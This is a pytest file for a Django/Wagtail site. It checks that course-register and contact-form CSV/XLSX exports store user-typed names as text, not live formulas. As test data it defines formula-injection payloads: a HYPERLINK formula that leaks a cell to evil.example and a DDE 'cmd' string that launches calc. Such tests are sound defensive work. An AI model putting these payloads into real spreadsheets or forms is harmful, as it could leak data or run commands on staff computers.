"""A name typed by a person never becomes a live formula in a spreadsheet the staff download
(CSV/formula injection, issue #9 found 4): the register exports and the contact-form export."""

import csv
import io
import json

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from cms.models import ContactPage
from courses.models import Enrolment
from portal.accounts.roles import Role
from tests.factories.users import UserFactory

pytestmark = pytest.mark.django_db
User = get_user_model()
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Apri")'
HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _seated_enrolments():
    return Enrolment.objects.filter(status=Enrolment.Status.ENROLLED).select_related("person")


@pytest.fixture
def register_with_hostile_names():
    enrolment = _seated_enrolments().first()
    edition = enrolment.edition
    people = [e.person for e in _seated_enrolments().filter(edition=edition)][: len(HOSTILE)]
    for person, name in zip(people, HOSTILE, strict=False):
        person.last_name = name
        person.save(update_fields=["last_name"])
    return edition, [p.last_name for p in people]


def test_register_csv_writes_names_as_text(client, demo_site, register_with_hostile_names):
    edition, names = register_with_hostile_names
    client.force_login(UserFactory(role=Role.OPERATOR))
    response = client.get(f"/admin/courses/edition/{edition.pk}/register.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    surnames = [row[0] for row in rows[1:] if row]
    for name in names:
        assert "'" + name in surnames  # shown as typed, after the "this is text" mark
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_register_xlsx_stores_names_as_text(client, demo_site, register_with_hostile_names):
    edition, _names = register_with_hostile_names
    client.force_login(UserFactory(role=Role.OPERATOR))
    response = client.get(f"/admin/courses/edition/{edition.pk}/register.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert EVIL in [c.value for c in cells]  # the name reads exactly as typed...
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # ...and is no formula


def test_contact_form_export_writes_messages_as_text(client, demo_site):
    page = ContactPage.objects.get(locale__language_code="it")
    FormSubmission.objects.create(
        page=page,
        form_data=json.loads(
            json.dumps({"nome": EVIL, "email": "x@example.org", "messaggio": "@SUM(1,2)"})
        ),
    )
    client.force_login(User.objects.get(username="admin"))
    response = client.get(f"/admin/forms/submissions/{page.pk}/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + EVIL in cells
    assert "'@SUM(1,2)" in cells
    assert not [c for c in cells if c.startswith(("=", "@", "+"))]
    xlsx = client.get(f"/admin/forms/submissions/{page.pk}/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    values = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert EVIL in [c.value for c in values]
    assert [c.coordinate for c in values if c.data_type == "f"] == []
